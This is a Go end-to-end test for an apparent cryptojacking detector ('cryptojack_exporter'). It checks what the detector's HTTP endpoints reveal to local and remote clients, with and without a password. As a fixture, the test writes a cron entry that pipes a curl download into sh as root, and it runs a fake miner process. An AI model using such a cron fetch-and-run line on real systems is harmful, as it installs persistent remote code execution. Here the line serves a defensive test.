package e2e

import (
	"errors"
	"fmt"
	"net"
	"os"
	"strings"
	"testing"
	"time"
)

// TestWhoIsToldWhat has a suspect with telling arguments and a telling line of a crontab, and
// asks from this host and from a network namespace of its own, as another host would.
func TestWhoIsToldWhat(t *testing.T) {
	const (
		burner, entry = "/tmp/cryptojack-e2e-audience", "/etc/cron.d/cryptojack-e2e-audience"
		argument      = "argument-of-others"
		line          = "line-of-others"
		password      = "open-sesame"
	)
	if _, err := os.Lstat(entry); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("%s is there already (%v): it is left alone", entry, err)
	}
	t.Cleanup(func() { os.Remove(entry) })
	if err := os.WriteFile(entry, []byte("0 0 31 2 * root curl -fsS -u me:"+password+" http://127.0.0.1:9/"+line+" | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	copyProgram(t, program(t, "replica"), burner, "audience")
	startAsNobody(t, []string{"REPLICA_MODE=burner", "REPLICA_DUTY=1"}, burner, "--donate-level=1", argument, "--password="+password)

	reader := addNamespace(t, "reader")
	open, guarded := reader.freePortOfHost(t), reader.freePortOfHost(t)
	passwords := writeFile(t, t.TempDir(), "web.yml", "basic_auth_users:\n  prometheus: "+passwordHash+"\n")
	watching := startExporter(t, "--persistence.interval=1s", "--web.listen-address="+open)
	// Without the password nothing is answered, not even whether it is ready.
	startProcess(t, nil, program(t, "cryptojack_exporter"), askNobody(t), "--web.config.file="+passwords, "--web.listen-address="+guarded)

	here := []string{"curl", "--silent", "--show-error", "--max-time", "10", "--write-out", "\n%{http_code}"}
	there := append(reader.enter(), here...)
	for _, test := range []struct {
		name   string
		curl   []string
		server string
		more   []string
		status string
		full   bool
	}{
		{"this host", here, watching.address, nil, "200", true},
		{"this host, by name", here, strings.Replace(watching.address, "127.0.0.1", "localhost", 1), nil, "200", true},
		{"this host, through a proxy", here, watching.address, []string{"-H", "X-Forwarded-For: 192.0.2.1"}, "200", false},
		{"this host, as HTTP/1.0", here, watching.address, []string{"--http1.0"}, "200", false},
		{"this host, by a name that was rebound", here, watching.address, []string{"-H", "Host: evil.example"}, "403", false},
		{"another host", there, open, nil, "200", false},
		{"another host, by the name localhost", there, open, []string{"-H", "Host: localhost"}, "200", false},
		{"another host, with a password that nobody asks for", there, open, []string{"--user", "prometheus:correct"}, "200", false},
		{"another host, without the password", there, guarded, nil, "401", false},
		{"another host, with a wrong password", there, guarded, []string{"--user", "prometheus:wrong"}, "401", false},
		{"another host, with the password", there, guarded, []string{"--user", "prometheus:correct"}, "200", true},
	} {
		t.Run(test.name, func(t *testing.T) {
			for _, path := range []string{"/", "/api/v1/findings"} {
				ask := func() string {
					command := append(append([]string(nil), test.curl...), test.more...)
					asked := runToEnd(t, command[0], append(command[1:], "http://"+test.server+path)...)
					return asked.stdout
				}
				eventually(t, 60*time.Second, path, func() error {
					body := ask()
					switch {
					case !strings.HasSuffix(body, "\n"+test.status):
						return fmt.Errorf("want %s: %.500s", test.status, body)
					case test.status == "200" && (!strings.Contains(body, burner) || !strings.Contains(body, entry)):
						return fmt.Errorf("the burner or the entry is not told yet: %s", tail(body, 1500))
					case test.full && !strings.Contains(body, line):
						return fmt.Errorf("the line is not told: %s", tail(body, 1500))
					case test.full && path != "/" && !strings.Contains(body, argument):
						return fmt.Errorf("the arguments are not told: %s", tail(body, 1500))
					}
					return nil
				})
				body := ask()
				for _, secret := range []string{line, argument} {
					if !test.full && strings.Contains(body, secret) {
						t.Errorf("%s tells %s", path, secret)
					}
				}
				if strings.Contains(body, password) {
					t.Errorf("%s tells a password", path)
				}
			}
		})
	}
	if asked := runToEnd(t, there[0], append(there[1:], "http://"+open+"/metrics")...); !strings.HasSuffix(asked.stdout, "\n200") || strings.Contains(asked.stdout, line) || strings.Contains(asked.stdout, argument) {
		t.Errorf("/metrics from another host: %s", tail(asked.stdout, 500))
	}
	scan := runToEnd(t, program(t, "cryptojack_exporter"), "scan", "--for=3s", "--format=json", askNobody(t))
	if !strings.Contains(scan.stdout, line) || !strings.Contains(scan.stdout, argument) || strings.Contains(scan.stdout, password) {
		t.Errorf("scan tells less than all, or a password: %s", tail(scan.stdout+scan.stderr, 2000))
	}
	if log := watching.output.String(); strings.Contains(log, password) {
		t.Errorf("the log tells a password: %s", tail(log, 2000))
	}
}

// freePortOfHost is where a server of this host can listen for the namespace.
func (n netNamespace) freePortOfHost(t *testing.T) string {
	t.Helper()
	last := strings.LastIndexByte(n.address, '.') + 1
	var own int
	if _, err := fmt.Sscan(n.address[last:], &own); err != nil {
		t.Fatal(err)
	}
	listener, err := net.Listen("tcp", fmt.Sprintf("%s%d:0", n.address[:last], own-1))
	if err != nil {
		t.Fatal(err)
	}
	defer listener.Close()
	return listener.Addr().String()
}
